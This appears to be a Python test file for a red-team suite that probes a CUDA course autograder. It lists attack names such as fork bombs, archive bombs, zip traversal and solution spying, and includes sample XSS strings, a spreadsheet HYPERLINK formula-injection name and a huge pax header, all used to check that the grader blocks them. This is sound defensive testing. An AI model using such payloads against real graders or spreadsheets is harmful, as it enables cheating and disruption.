"""Tests of the red-team suite (tools/redteam, tools/cudalab_grade/redteam.py, tests/redteam/).

The attack specs and recipes are checked as they are; the outcome checker is
tested on canned grader records and outputs; the watchers (marker processes,
files, the listener) on processes and files made here. The last test runs
the host-only part of the suite with the real class grader (the attacks the
grader must stop without a GPU): it needs cmake, ninja and nvcc, as CI has.
"""
from __future__ import annotations

import dataclasses
import gzip
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import unittest
import zipfile
from pathlib import Path

from toolload import ROOT

sys.path.insert(0, str(ROOT / "tools"))
from cudalab_grade import redteam as rt  # noqa: E402
from cudalab_grade import submissions  # noqa: E402


def attack(name="a1", exercises=("1.1",), expect="zero", host_only=False, **kw) -> rt.Attack:
    return rt.Attack(name=name, tries="t", exercises=list(exercises), expect=expect, host_only=host_only,
                     stopped_by="s", folder=Path("/nonexistent"), **kw)


def ex(id_, status, c=0.0, p=0.0, m=10.0, reason=""):
    return {"id": id_, "slug": "s", "status": status, "correctness_points": c, "perf_points": p,
            "max_points": m, "reason": reason}


def record(*exercises, rejected=None):
    return {"score": sum(e["correctness_points"] + e["perf_points"] for e in exercises),
            "cudalab": {"student": "x", "entry": "x", "rejected": rejected, "exercises": list(exercises)}}


class SuiteTest(unittest.TestCase):
    def test_every_attack_is_well_formed(self):
        attacks = rt.load_attacks()
        names = [a.name for a in attacks]
        self.assertEqual(len(names), len(set(names)))
        self.assertGreaterEqual(len(attacks), 40)
        self.assertTrue(any(a.host_only for a in attacks) and any(not a.host_only for a in attacks))
        for a in attacks:
            self.assertTrue(a.tries.endswith(".") and a.stopped_by, a.name)
            if not a.archive and a.student is None:
                self.assertTrue(a.files(), f"{a.name}: no submitted file")
            for rel, p in a.files().items():
                text = p.read_text()
                self.assertIn("RED TEAM", text, f"{a.name}/{rel}: say what it does")
                if "redteam::" in text:
                    self.assertIn(rt.LIB_LINE, text, f"{a.name}/{rel} uses the library")

    def test_the_brief_is_covered(self):
        names = {a.name for a in rt.load_attacks()}
        for wanted in ("verdict-static-init", "verdict-atexit", "verdict-define-main", "verdict-gtest-helper",
                       "verdict-harness-functions", "verdict-setenv", "verdict-fake-output", "verdict-gtest-skip",
                       "include-solution-relative", "include-solution-absolute", "solution-runtime-nvcc",
                       "spy-students-hidden", "persist-shared-build", "daemon-gradebook", "kill-grader",
                       "fork-bomb", "fill-tmp", "memory-outside-group", "network-localhost",
                       "fapi-token-paste", "fapi-inline-ptx", "fapi-attribute-shared", "fapi-namespace-alias-cg",
                       "fapi-define-c-cub", "include-given-heap", "host-compute-memcpy", "cached-answer", "archive-pax-huge",
                       "archive-gnu-longname", "archive-gzip-bomb", "archive-zip-traversal", "archive-tar-symlink",
                       "name-csv-equals", "name-markdown-id", "merge-forged-results",
                       # host memory and copies the host-copy guard does not count, device code it
                       # does not see, system calls no import shows, timing from a static initializer
                       "host-compute-managed-var", "host-compute-mapped-memory", "host-compute-host-pool",
                       "host-compute-ptds", "host-compute-array-copy", "host-compute-batch-copy",
                       "host-compute-graph-memcpy", "host-compute-graph-replay", "host-compute-real-symbol",
                       "host-compute-memcpy-wrong-kind", "fapi-library-load", "fapi-register-fatbin",
                       "fapi-cxx11-attribute-shared", "fapi-reduce-sync-scan", "fapi-barrier-count-sum",
                       "asm-host-syscall", "asm-incbin-exfiltrate",
                       "timing-static-init-spinner",
                       # a neighbour on the GPU that takes its memory (the control beside it must keep its marks)
                       "gpu-memory-hog",
                       # writes just outside a buffer, inside the checker's mapping
                       "oob-write-past-output", "oob-write-before-input",
                       # a compile that fills the disk or the host's memory
                       "compile-disk-fill", "compile-memory-bomb"):
            self.assertIn(wanted, names)

    def test_controls(self):
        controls = rt.load_controls()
        self.assertEqual(sorted(c.student for c in controls),
                         ["0-0-gpu-memory-hog-beside", "0-control-first", "zz-control-last"])
        beside = next(c for c in controls if c.beside)
        self.assertEqual((beside.beside, beside.exercises), ("gpu-memory-hog", ["1.1"]))
        rt.check_beside(rt.load_attacks(), controls)  # the pair is graded first, at once

    def test_beside_must_start_with_its_attack(self):
        hog = attack("hog", student="0-hog")
        hog.files = lambda: {"01-reduce-scan-histogram/sum_atomic.cu": Path("/nonexistent")}
        nothing = attack("name-only", student="+1")
        nothing.files = lambda: {}
        late = attack("late", student="0-a")
        late.files = hog.files
        ok = rt.Control("b", "0-hog-beside", ["1.1"], "hog")
        rt.check_beside([hog, nothing], [ok, rt.Control("first", "0-z", "targeted")])
        for attacks, control, why in (
                ([hog], rt.Control("b", "0-hog-beside", ["1.1"], "nope"), "names no attack"),
                ([hog, attack("other", student="0-i")], rt.Control("b", "1-beside", ["1.1"], "hog"),
                 "right after"),
                ([hog, late], ok, "must be the first submissions"),
                ([attack("hog", host_only=True, student="0-hog")], ok, "never runs on the GPU")):
            with self.assertRaisesRegex(rt.SpecError, why):
                rt.check_beside(attacks, [control])
        with tempfile.TemporaryDirectory() as tmp:
            d = Path(tmp) / "controls" / "c"
            d.mkdir(parents=True)
            for text, why in (('beside = 3\n', "an attack's name"), ('colour = "red"\n', "unknown key")):
                (d / "control.toml").write_text(text)
                with self.assertRaisesRegex(rt.SpecError, why):
                    rt.load_controls(Path(tmp))

    def test_bad_specs_are_refused(self):
        with tempfile.TemporaryDirectory() as tmp:
            suite = Path(tmp)
            d = suite / "attacks" / "x"
            d.mkdir(parents=True)
            good = ('tries = "t."\nexercises = ["1.1"]\nexpect = "zero"\nhost_only = false\n'
                    'stopped_by = "s"\n')
            for extra, why in (('archive = "nope"\n', "recipe"), ('checks = ["vibes"]\n', "checks"),
                               ('colour = "red"\n', "unknown key"), ('statuses = ["won"]\n', "statuses"),
                               ('student = "a/b"\n', "file name"),
                               ('perf_reason = "wrong"\n', "perf_reason")):  # only with no-perf
                (d / "attack.toml").write_text(good + extra)
                with self.assertRaisesRegex(rt.SpecError, why):
                    rt.load_attacks(suite)
            (d / "attack.toml").write_text(good.replace('"1.1"', '"9.9"'))
            with self.assertRaisesRegex(rt.SpecError, "exercise ids"):
                rt.load_attacks(suite)
            (d / "attack.toml").write_text(good)
            (d / "01-reduce-scan-histogram").mkdir()
            (d / "01-reduce-scan-histogram" / "sum_vectorized.cu").write_text("//\n")
            with self.assertRaisesRegex(rt.SpecError, "not the file of a targeted exercise"):
                rt.load_attacks(suite)


class ClassBuildTest(unittest.TestCase):
    """The submissions the suite makes: filled-in sources, canaries, archives the grader refuses."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        tmp = Path(cls.tmp.name)
        cls.ctx = rt.Context(ROOT, tmp / "subs", tmp / "secret.txt", "cudalab_redteam_canary_hidden_x", 4242)
        cls.attacks = rt.load_attacks()
        cls.students = rt.build_class(cls.attacks, rt.load_controls(), ["1.1", "1.2"], cls.ctx)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_sources_are_filled_in(self):
        e = next(e for e, s in self.students.items() if s.name == "network-localhost")
        text = (self.ctx.subs / e / "01-reduce-scan-histogram" / "sum_atomic.cu").read_text()
        self.assertIsNone(re.search(r"@REDTEAM_[A-Z_]+@", text), "a word left to fill in")
        self.assertIn("const int port = 4242;", text)
        self.assertIn('kMarker = "cudalab-redteam-network-localhost"', text)
        self.assertIn(self.students[e].canary, text)

    def test_controls_are_the_solutions(self):
        s = self.students["zz-control-last"]
        self.assertEqual(s.kind, "control")
        for rel in ("sum_atomic.cu", "sum_shared_tree.cu"):
            got = (self.ctx.subs / "zz-control-last" / "01-reduce-scan-histogram" / rel).read_text()
            want = (ROOT / "solutions" / "01-reduce-scan-histogram" / rel).read_text()
            self.assertTrue(got.startswith(want.rstrip("\n")) and s.canary in got)
        self.assertNotEqual(s.canary, self.students["0-control-first"].canary)

    def test_archives_are_small_and_refused(self):
        for a in self.attacks:
            if not a.archive or a.archive == "dir-symlink":
                continue
            entry = next(e for e, s in self.students.items() if s.name == a.name)
            path = self.ctx.subs / entry
            self.assertLess(path.stat().st_size, 4 << 20, a.name)
            if a.expect != "rejected":
                continue
            kind = "zip" if entry.endswith(".zip") else "tar"
            with tempfile.TemporaryDirectory() as out:
                with self.assertRaises(submissions.Rejected, msg=a.name):
                    submissions.unpack(submissions.Entry(a.student_id, path, kind), Path(out) / "x")

    def test_pax_bomb_holds_what_it_says(self):
        entry = next(e for e, s in self.students.items() if s.name == "archive-pax-huge")
        with gzip.open(self.ctx.subs / entry) as f:
            head = f.read(512 + 16)
        self.assertEqual(head[156:157], b"x")
        self.assertEqual(int(head[124:135], 8), 1 << 30)
        self.assertEqual(head[512:], b"1073741824 path=")

    def test_names_and_links(self):
        self.assertTrue((self.ctx.subs / '=HYPERLINK("cudalab-redteam.invalid?"&A1;"grade")').is_dir())
        link = self.ctx.subs / "dir-symlink-solution" / "01-reduce-scan-histogram" / "sum_shared_tree.cu"
        self.assertTrue(link.is_symlink())
        with zipfile.ZipFile(self.ctx.subs / "archive-zip-traversal.zip") as z:
            self.assertTrue(any(n.startswith("../../") for n in z.namelist()))


class DetectorsTest(unittest.TestCase):
    def test_formula_cells(self):
        book = ('student,1.1 x,total,problems\n=HYPERLINK("a"),0.0,-1.5,\n'
                "'=quoted,0.0,0.0,\n@SUM(1),0.0,0.0,1.1: failed\nbob,0.0,0.0,+cmd\n\"\tx\",0,0,\n")
        cells = [c for _, c in rt.formula_cells(book)]
        self.assertEqual(cells, ['=HYPERLINK("a")', "@SUM(1)", "+cmd", "\tx"])

    def test_active_markdown(self):
        self.assertTrue(rt.active_markdown("# Grade report: <img src=x onerror=alert(1)>"))
        self.assertTrue(rt.active_markdown("see [x](javascript:alert(1))"))
        self.assertTrue(rt.active_markdown("- `a`<script>alert(1)</script>`b`"))   # broke out of the span
        self.assertTrue(rt.active_markdown("<b onmouseover=alert(1)>x</b>"))
        self.assertEqual(rt.active_markdown("- `<script>alert(1)</script>`"), [])
        self.assertEqual(rt.active_markdown("- ``a`<img src=x onerror=f()>`b``"), [])
        self.assertEqual(rt.active_markdown("\\<img src=x\\> \\[a\\](javascript:x)"), [])
        self.assertEqual(rt.active_markdown("```\n<script>x</script>\n```\nfine"), [])
        self.assertEqual(rt.active_markdown("n < bound, 3 of 10 tests failed, one = max(a)"), [])
        self.assertEqual(rt.active_markdown("error: no instance of f<int, bool on_device = true>"), [])

    def test_compare_gradebooks(self):
        a = "student,total\nann,10.0\nbob,0.0\n"
        self.assertEqual(rt.compare_gradebooks(a, a), [])
        probs = rt.compare_gradebooks(a, "student,total\nann,10.0\nbob,10.0\nforged,100\n")
        self.assertEqual(len(probs), 2)
        self.assertTrue(any("forged" in p for p in probs) and any("bob" in p for p in probs))

    def test_attack_of(self):
        names = ["fork-bomb", "fork-bomb-2", "fill-tmp"]
        self.assertEqual(rt.attack_of("cudalab-redteam-fork-bomb", names), "fork-bomb")
        self.assertEqual(rt.attack_of("cudalab-redteam-fork-bomb-2", names), "fork-bomb-2")
        self.assertEqual(rt.attack_of("cudalab-redteam-fill-tmp-3.bin", names), "fill-tmp")
        self.assertEqual(rt.attack_of("x cudalab-redteam-fill-tmp was here\n", names), "fill-tmp")
        self.assertIsNone(rt.attack_of("nothing", names))

    def test_md_cell_defuses(self):
        cell = rt.md_cell("a|b <script>`x` [l](javascript:y)\nz")
        self.assertEqual(rt.active_markdown(cell), [])
        self.assertNotIn("\n", cell)
        self.assertIn("\\|", cell)


class JudgeTest(unittest.TestCase):
    """The outcome checker on canned records (what the grader would write)."""

    def judge(self, a, rec, f=None, entry="x"):
        return rt.judge_attack(a, entry, rec, f or rt.Findings())

    def test_zero(self):
        self.assertTrue(self.judge(attack(), record(ex("1.1", "failed"))).passed)
        o = self.judge(attack(), record(ex("1.1", "passed", 10)))
        self.assertFalse(o.passed)
        self.assertIn("scored 10", o.problems[0])
        self.assertFalse(self.judge(attack(), None).passed)
        self.assertFalse(self.judge(attack(), record(ex("1.1", "grader_error"))).passed)
        self.assertFalse(self.judge(attack(exercises=("1.1", "1.2")), record(ex("1.1", "failed"))).passed)
        self.assertTrue(self.judge(attack(), record(ex("1.1", "rejected"), rejected="bad archive")).passed)

    def test_statuses(self):
        a = attack(statuses=["forbidden"])
        self.assertTrue(self.judge(a, record(ex("1.1", "forbidden"))).passed)
        o = self.judge(a, record(ex("1.1", "failed")))   # zero, but not for the right reason
        self.assertFalse(o.passed)
        self.assertIn("expected forbidden", o.problems[0])

    def test_a_layer_not_reached_is_said(self):
        # the sandbox is what should stop it, but the forbidden-API check came first
        a = dataclasses.replace(attack(), stopped_by="cgroup pids.max")
        o = self.judge(a, record(ex("1.1", "forbidden")))
        self.assertTrue(o.passed)
        self.assertEqual(o.notes, ["1.1 stopped first by the forbidden-API check: what stops it, as "
                                   "listed, was not reached in this run"])
        self.assertEqual(self.judge(a, record(ex("1.1", "failed"))).notes, [])
        b = dataclasses.replace(attack(), stopped_by="forbidden-API check (object imports)")
        self.assertEqual(self.judge(b, record(ex("1.1", "forbidden"))).notes, [])

    def test_host_only_must_stop_before_the_tests(self):
        a = attack(host_only=True)
        f = rt.Findings(mode="host-only")
        o = self.judge(a, record(ex("1.1", "no_gpu")), f)
        self.assertFalse(o.passed)
        self.assertIn("reached the tests", o.problems[0])
        self.assertTrue(self.judge(a, record(ex("1.1", "compile_error")), f).passed)

    def test_rejected(self):
        a = attack(expect="rejected")
        self.assertTrue(self.judge(a, record(ex("1.1", "rejected"), rejected="archive member '..'")).passed)
        o = self.judge(a, record(ex("1.1", "failed")))
        self.assertFalse(o.passed)
        self.assertIn("not rejected", o.problems[0])

    def test_no_perf(self):
        a = attack(expect="no-perf")
        self.assertTrue(self.judge(a, record(ex("1.1", "passed", 10, 0, 12))).passed)
        self.assertFalse(self.judge(a, record(ex("1.1", "passed", 10, 2, 12))).passed)
        self.assertFalse(self.judge(a, record(ex("1.1", "no_gpu"))).passed)

    def test_no_perf_for_the_right_reason(self):
        a = attack(expect="no-perf", perf_reason="output is wrong")
        caught = "all 72 tests passed; perf: benchmark x failed: a call's output is wrong (a call ...)"
        self.assertTrue(self.judge(a, record(ex("1.1", "passed", 10, 0, 12, reason=caught))).passed)
        o = self.judge(a, record(ex("1.1", "passed", 10, 0, 12, reason="ratio 0.4 of cub (target 0.95)")))
        self.assertFalse(o.passed)  # no points, but only slow: the check under test did not act
        self.assertIn("does not say 'output is wrong'", o.problems[0])

    def test_side_effects_are_attributed(self):
        a = attack("fork-bomb", max_processes=100, max_rss_mib=1000, checks=["outputs-stable"])
        clean = record(ex("1.1", "failed"))
        f = rt.Findings(processes={"fork-bomb": 3})
        self.assertIn("outlived", self.judge(a, clean, f).problems[0])
        f = rt.Findings(peak_count={"fork-bomb": 101})
        self.assertIn("at once", self.judge(a, clean, f).problems[0])
        f = rt.Findings(peak_rss={"fork-bomb": 2000 << 20})
        self.assertIn("resident", self.judge(a, clean, f).problems[0])
        f = rt.Findings(output_changes=["gradebook.csv changed"])
        self.assertIn("outputs changed", self.judge(a, clean, f).problems[0])
        f = rt.Findings(files={"fork-bomb": ["/tmp/cudalab-redteam-fork-bomb"]}, leaks={"x": ["report.md: y"]})
        self.assertEqual(len(self.judge(a, clean, f).problems), 2)
        self.assertTrue(self.judge(attack("other"), clean, f, entry="z").passed)

    def test_checks(self):
        clean = record(ex("1.1", "not_submitted"))
        csv_attack = attack("name-csv", student="=1+1", checks=["csv"])
        f = rt.Findings(formulas=[("=1+1", "=1+1")])
        rt.attribute_formulas(f, {"e": rt.Student("e", "=1+1", "attack", "name-csv", "c", ["1.1"])})
        self.assertFalse(self.judge(csv_attack, clean, f, entry="e").passed)
        self.assertTrue(self.judge(csv_attack, clean, rt.Findings(), entry="e").passed)
        merge = attack("m", checks=["merge"])
        self.assertFalse(self.judge(merge, clean, rt.Findings(merge=["the merge added 'x'"])).passed)
        shared = attack("p", checks=["shared-build", "grader-exit"])
        self.assertFalse(self.judge(shared, clean, rt.Findings(shared_changes=["a changed"])).passed)
        self.assertFalse(self.judge(shared, clean, rt.Findings(grader_rc=-9)).passed)
        seed = attack("s", checks=["no-seed-leak"])
        self.assertTrue(self.judge(seed, clean, rt.Findings(seed_leaks={"x": ["report.md"]})).passed)
        self.assertFalse(self.judge(seed, clean, rt.Findings(seed_exfil={"x": ["report.md"]})).passed)
        md = attack("md", checks=["markdown"])
        self.assertFalse(self.judge(md, clean, rt.Findings(markdown={"summary.md": ["<img"]})).passed)
        big = attack("fill", checks=["no-big-files"])
        left = {"fill": ["work/fill/course/build/default/grade-obj/x.o (256 MiB)"]}
        o = self.judge(big, clean, rt.Findings(big_files=left), entry="fill")
        self.assertEqual(o.problems, ["left 1 file(s) of 64 MiB or more in the grader's output: "
                                      "work/fill/course/build/default/grade-obj/x.o (256 MiB)"])
        self.assertTrue(self.judge(big, clean, rt.Findings(big_files={"other": ["x"]}), entry="fill").passed)

    def test_not_armed_is_noted(self):
        f = rt.Findings(armed={"nvcc": "no nvcc"})
        o = self.judge(attack(armed="nvcc"), record(ex("1.1", "failed")), f)
        self.assertTrue(o.passed)
        self.assertEqual(o.notes, ["not armed: no nvcc"])

    def test_controls(self):
        s = rt.Student("c", "c", "control", "first", "k", ["1.1", "1.2"])
        self.assertTrue(rt.judge_control(s, record(ex("1.1", "passed", 10, 2, 12), ex("1.2", "passed", 10))).passed)
        self.assertFalse(rt.judge_control(s, record(ex("1.1", "passed", 10, 1, 12), ex("1.2", "passed", 10))).passed)
        self.assertFalse(rt.judge_control(s, record(ex("1.1", "passed", 10, 2, 12))).passed)
        self.assertFalse(rt.judge_control(s, None).passed)

    def test_a_control_graded_again_alone(self):
        # full marks either way; the notes say whether the attack beside it made its tests fail
        s = rt.Student("c", "c", "control", "beside-hog", "k", ["1.1"], beside="hog")
        r = record(ex("1.1", "passed", 10))
        r["cudalab"]["exercises"][0]["alone"] = ("graded again alone on the GPU: its first run, beside 1 other "
                                                 "submission on the GPU, ran out of memory (...)")
        o = rt.judge_control(s, r)
        self.assertTrue(o.passed)
        self.assertEqual(o.notes, ["1.1 graded again alone on the GPU (its first run failed beside another "
                                   "submission)"])
        r["cudalab"]["exercises"][0]["alone"] = ""
        o = rt.judge_control(s, r)
        self.assertTrue(o.passed)
        self.assertIn("the check did not bite", o.notes[0])
        md = rt.markdown_report({"passed": True, "controls": [dataclasses.asdict(o)]})
        self.assertIn("the check did not bite", md)

    def test_global_checks(self):
        rows = rt.global_checks(rt.Findings(), 123)
        self.assertTrue(all(ok for _, ok, _ in rows))
        rows = dict((c, ok) for c, ok, _ in rt.global_checks(rt.Findings(grader_rc=3, processes={"a": 1}), 1))
        self.assertFalse(rows["the grader lived and exited 0"])
        self.assertFalse(rows["no process left with a marker"])


class OutputsTest(unittest.TestCase):
    """Leaks, the seed and Markdown in a canned grader output folder."""

    def test_scan_outputs(self):
        with tempfile.TemporaryDirectory() as tmp:
            gout = Path(tmp)
            students = {"spy": rt.Student("spy", "spy", "attack", "spy", rt.CANARY + "aaaa", ["1.1"]),
                        "ann": rt.Student("ann", "ann", "control", "first", rt.CANARY + "bbbb", ["1.1"]),
                        "tidy": rt.Student("tidy", "tidy", "attack", "tidy", rt.CANARY + "cccc", ["1.1"])}
            outputs = {
                "spy": ("your code printed: ann.cu: // " + rt.CANARY + "bbbb and // BEGIN SOLUTION "
                        "cudalab-redteam-seed=987654321 [x](javascript:y)"),
                "ann": "all tests passed; // BEGIN SOLUTION is my own file; // " + rt.CANARY + "bbbb",
                "tidy": "3 of 10 tests failed; rerun: CUDALAB_SEED=987654321 bin/x " + rt.CANARY + "cccc SECRET",
            }
            for entry, text in outputs.items():
                d = gout / "students" / entry
                d.mkdir(parents=True)
                (d / "report.md").write_text(text)
                (d / "results.json").write_text(json.dumps(
                    {"output": "", "tests": [], "cudalab": {"student": entry, "entry": entry, "exercises": [],
                                                            "seed": 987654321}}))
            records = rt.load_records(gout)
            self.assertEqual(sorted(records), ["ann", "spy", "tidy"])
            f = rt.Findings()
            rt.scan_outputs(records, students, f, "SECRET", 987654321)
            self.assertEqual(sorted(f.leaks), ["spy", "tidy"])
            self.assertTrue(any("ann's file" in x for x in f.leaks["spy"]))
            self.assertTrue(any("reference solution" in x for x in f.leaks["spy"]))
            self.assertTrue(any("hidden tests" in x for x in f.leaks["tidy"]))
            self.assertEqual(sorted(f.seed_leaks), ["spy", "tidy"])   # results.json's cudalab.seed is not shown
            self.assertEqual(sorted(f.seed_exfil), ["spy"])
            self.assertEqual(sorted(f.markdown), ["spy"])

    def test_hashes(self):
        with tempfile.TemporaryDirectory() as tmp:
            top = Path(tmp)
            (top / "a").write_text("1")
            (top / "b").write_text("2")
            before = rt.hash_tree(top)
            (top / "a").write_text("3")
            (top / "b").unlink()
            (top / "c").write_text("4")
            self.assertEqual(rt.diff_hashes(before, rt.hash_tree(top)), ["a changed", "b removed", "c added"])


class BigFilesTest(unittest.TestCase):
    def test_big_files_by_student(self):
        with tempfile.TemporaryDirectory() as tmp:
            gout = Path(tmp)
            for rel, size in (("work/ann/course/build/default/grade-obj/x.o", 64 << 20),
                              ("work/ann/course/build/default/bin/r", (64 << 20) - 1),
                              ("students/bob/build.log", 100 << 20), ("shared/big", 70 << 20)):
                (gout / rel).parent.mkdir(parents=True, exist_ok=True)
                with (gout / rel).open("wb") as f:
                    f.truncate(size)  # sparse: no disk used
            self.assertEqual(rt.big_files(gout, 64 << 20), {
                "ann": ["work/ann/course/build/default/grade-obj/x.o (64 MiB)"],
                "bob": ["students/bob/build.log (100 MiB)"], "?": ["shared/big (70 MiB)"]})


class WatchersTest(unittest.TestCase):
    def test_marker_processes_are_found_and_killed(self):
        p = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "cudalab-redteam-fork-bomb"])
        try:
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and p.pid not in rt.marker_processes(["fork-bomb"]):
                time.sleep(0.05)
            self.assertEqual(rt.marker_processes(["fork-bomb"]).get(p.pid), "fork-bomb")
            m = rt.Monitor(["fork-bomb"], 0)
            m.tick()
            self.assertGreaterEqual(m.peak_count["fork-bomb"], 1)
            self.assertGreater(m.peak_rss["fork-bomb"], 0)
            self.assertGreaterEqual(rt.kill_marker_processes(["fork-bomb"]).get("fork-bomb", 0), 1)
            self.assertEqual(p.wait(timeout=10), -9)
        finally:
            if p.poll() is None:
                p.kill()
                p.wait()

    def test_marker_files(self):
        with tempfile.TemporaryDirectory() as tmp:
            top = Path(tmp)
            (top / "deep" / "er").mkdir(parents=True)
            (top / "cudalab-redteam-fill-tmp-0.bin").write_text("x")
            (top / "deep" / "er" / "cudalab-redteam-spy-loot.txt").write_text("x")
            (top / "plain.txt").write_text("x")
            self.assertEqual(len(rt.marker_files([(top, 1)])), 1)
            found = rt.marker_files([(top, 5)])
            self.assertEqual(len(found), 2)
            self.assertEqual(len(rt.marker_files([(top, 5)], skip=(top / "deep",))), 1)
            rt.remove_paths(found)
            self.assertEqual(rt.marker_files([(top, 5)]), set())

    def test_listener(self):
        lst = rt.Listener()
        try:
            with socket.create_connection(("127.0.0.1", lst.port), timeout=5) as s:
                s.sendall(b"cudalab-redteam-network-localhost was here\n")
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.sendto(b"cudalab-redteam-network-localhost udp\n", ("127.0.0.1", lst.port))
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and len(lst.got) < 2:
                time.sleep(0.05)
        finally:
            lst.close()
        self.assertEqual(sorted(p for p, _ in lst.got), ["tcp", "udp"])
        self.assertTrue(all(rt.attack_of(d, ["network-localhost"]) == "network-localhost" for _, d in lst.got))


def _toolchain() -> str | None:
    """Why the host-only run cannot happen here, or None."""
    if os.environ.get("CUDALAB_SKIP_REDTEAM"):
        return "CUDALAB_SKIP_REDTEAM is set"
    path = os.environ.get("PATH", "") + os.pathsep + "/usr/local/cuda/bin"
    missing = [t for t in ("cmake", "ninja", "nvcc") if shutil.which(t, path=path) is None]
    return f"needs {', '.join(missing)}" if missing else None


@unittest.skipIf(_toolchain(), _toolchain() or "")
class HostOnlyRunTest(unittest.TestCase):
    """tools/redteam --host-only with the real class grader (about a minute on 2 cores)."""

    def test_host_only_attacks_are_stopped(self):
        # Inside the course, as a class's output usually is: the relative include is armed there.
        work = ROOT / ".grade" / f"redteam-test-{os.getpid()}"
        try:
            p = subprocess.run([sys.executable, str(ROOT / "tools" / "redteam"), "--host-only",
                                "--out", str(work), "--jobs", "2"],
                               capture_output=True, text=True, timeout=900)
            report = (work / "redteam.md").read_text() if (work / "redteam.md").exists() else p.stderr[-3000:]
            data = json.loads((work / "redteam.json").read_text())
            self.assertEqual(data["mode"], "host-only")
            self.assertTrue(data["attacks"], report)
            self.assertTrue(all(a["host_only"] for a in data["attacks"]))
            failed = [f"{a['name']}: {'; '.join(a['problems'])}" for a in data["attacks"] if not a["passed"]]
            failed += [f"{c['check']}: {c['detail']}" for c in data["checks"] if not c["passed"]]
            self.assertEqual(failed, [], "\n" + report)
            self.assertEqual(p.returncode, 0, report)
        finally:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    unittest.main()
